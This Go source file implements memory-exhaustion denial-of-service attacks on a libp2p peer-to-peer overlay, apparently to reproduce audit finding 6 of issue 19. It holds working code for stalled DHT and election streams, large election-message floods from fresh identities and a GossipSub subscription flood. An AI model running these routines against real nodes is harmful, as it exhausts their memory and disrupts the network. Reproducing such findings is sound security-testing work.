package attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"sync"

	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"

	pubsubpb "github.com/libp2p/go-libp2p-pubsub/pb"
	"google.golang.org/protobuf/proto"

	"github.com/superpeer/superpeer/classic"
	"github.com/superpeer/superpeer/classic/pb"
)

// Attacks on a node's memory (issue 19, finding 6): each makes the node
// hold buffers for the attacker, as many as it will.

// DHTProtocol is the overlay's DHT protocol on a network (kad-dht with the
// overlay's prefix).
func DHTProtocol(network string) protocol.ID {
	return protocol.ID(fmt.Sprintf("/superpeer/%s/kad/1.0.0", network))
}

// GossipSubProtocol is the GossipSub protocol the attacks speak.
const GossipSubProtocol = protocol.ID("/meshsub/1.1.0")

// Stalled are streams an attacker holds open.
type Stalled struct {
	// Opened counts the streams that opened and took the prefix; Failed
	// those that did not (the target refused the stream, or read the
	// prefix and reset it before the write returned), Err the first
	// such error.
	Opened, Failed int
	Err            error
	mu             sync.Mutex
	streams        []network.Stream
}

// Close resets every stream held.
func (s *Stalled) Close() {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, st := range s.streams {
		_ = st.Reset()
	}
	s.streams = nil
}

// Stall opens n streams from each host of hs to p on proto, writes prefix
// on each (the start of a message: a length that announces a large one
// and a few of its bytes), and holds them, silent, until Close: the
// target's reader waits for the rest with whatever it allocated for it.
func Stall(ctx context.Context, hs []host.Host, p peer.ID, proto protocol.ID, n int, prefix []byte) *Stalled {
	st := &Stalled{}
	for _, h := range hs {
		for range n {
			s, err := h.NewStream(ctx, p, proto)
			if err == nil {
				_, err = s.Write(prefix)
			}
			st.mu.Lock()
			if err != nil {
				st.Failed++
				if st.Err == nil {
					st.Err = err
				}
				if s != nil {
					_ = s.Reset()
				}
			} else {
				st.Opened++
				st.streams = append(st.streams, s)
			}
			st.mu.Unlock()
		}
	}
	return st
}

// Announce is a message prefix for Stall: a uvarint length of size bytes
// and the first sent of them (zeros).
func Announce(size, sent int) []byte {
	return append(binary.AppendUvarint(nil, uint64(size)), make([]byte, sent)...)
}

// StallDHT is finding 6's first vector: streams on the overlay's DHT
// protocol that announce a message of 4 MiB (kad-dht's largest, which it
// allocated before reading) and send 1 KiB of it.
func StallDHT(ctx context.Context, hs []host.Host, p peer.ID, network string, n int) *Stalled {
	return Stall(ctx, hs, p, DHTProtocol(network), n, Announce(4<<20, 1<<10))
}

// StallElection is finding 6's fourth vector: election streams that
// announce a message of classic/pb's MaxSize (256 KiB) and send 1 KiB of
// it, from each of hs (fresh identities, replacing banned ones).
func StallElection(ctx context.Context, hs []host.Host, p peer.ID, network string, n int) *Stalled {
	return Stall(ctx, hs, p, Protocol(network, "election"), n, Announce(pb.MaxSize, 1<<10))
}

// LargeElectionFrame is a valid election message from no member, framed
// for the election protocol, about size bytes long (at most classic/pb's
// MaxSize): a heartbeat to to whose ID list names made-up peers.
func LargeElectionFrame(to peer.ID, size int) []byte {
	ids := make([]classic.ID, 0, min(size/46, pb.MaxIDs))
	for i := range cap(ids) {
		ids = append(ids, classic.ID(fmt.Sprintf("%044d", i)))
	}
	b, err := pb.Marshal(classic.Message{Type: classic.MsgHeartbeat, To: classic.ID(to), Leader: classic.ID(to), IDs: ids})
	if err != nil {
		panic(err) // within MaxSize by construction
	}
	return append(binary.AppendUvarint(nil, uint64(len(b))), b...)
}

// LargeElections is finding 6's second vector: n election messages of
// about size bytes (valid, from no member) from each of hs to p, sent at
// once; it returns how many streams took their message.
func LargeElections(ctx context.Context, hs []host.Host, p peer.ID, network string, n, size int) int {
	msg := LargeElectionFrame(p, size)
	var wg sync.WaitGroup
	var mu sync.Mutex
	sent := 0
	for _, h := range hs {
		for range n {
			wg.Add(1)
			go func() {
				defer wg.Done()
				s, err := h.NewStream(ctx, p, Protocol(network, "election"))
				if err != nil {
					return
				}
				defer s.Close()
				if _, err := s.Write(msg); err != nil {
					_ = s.Reset()
					return
				}
				_ = s.CloseWrite()
				mu.Lock()
				sent++
				mu.Unlock()
				_, _ = s.Read(make([]byte, 1)) // until the node closes or resets it
			}()
		}
	}
	wg.Wait()
	return sent
}

// SpeakGossipSub makes h accept the GossipSub streams of its peers (and
// read nothing from them): the target then counts h among its GossipSub
// peers. Call it before h connects.
func SpeakGossipSub(h host.Host) {
	h.SetStreamHandler(GossipSubProtocol, func(s network.Stream) { _, _ = io.Copy(io.Discard, s) })
}

// SubscriptionFlood is finding 6's third vector: rpcs GossipSub RPCs from
// h to p, each subscribing to perRPC made-up topics ("/attack/<rpc>/<n>"),
// then one that subscribes to the topics last (a real one, whose
// subscription shows when the target has read all before it), written on
// one stream, which it holds open until Close (GossipSub forgets a peer's
// subscriptions when its stream closes).
func SubscriptionFlood(ctx context.Context, h host.Host, p peer.ID, rpcs, perRPC int, last ...string) (*Stalled, error) {
	s, err := h.NewStream(ctx, p, GossipSubProtocol)
	if err != nil {
		return &Stalled{Failed: 1}, err
	}
	st := &Stalled{Opened: 1, streams: []network.Stream{s}}
	yes := true
	for i := range rpcs + 1 {
		rpc := &pubsubpb.RPC{}
		topics := last
		if i < rpcs {
			topics = make([]string, perRPC)
			for j := range topics {
				topics[j] = fmt.Sprintf("/attack/%d/%d", i, j)
			}
		}
		for _, topic := range topics {
			rpc.Subscriptions = append(rpc.Subscriptions, &pubsubpb.RPC_SubOpts{Subscribe: &yes, Topicid: &topic})
		}
		b, err := proto.Marshal(rpc)
		if err != nil {
			return st, err
		}
		if _, err := s.Write(append(binary.AppendUvarint(nil, uint64(len(b))), b...)); err != nil {
			return st, err
		}
	}
	return st, nil
}
